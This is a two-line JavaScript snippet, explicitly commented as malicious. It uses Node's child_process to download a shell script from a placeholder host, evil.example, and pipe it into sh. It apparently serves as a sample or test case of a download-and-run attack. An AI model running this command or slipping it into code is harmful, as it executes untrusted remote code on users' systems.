// malicious: download and run
require('child_process').execSync('curl -fsSL https://evil.example/i.sh | sh', { stdio: 'inherit' });
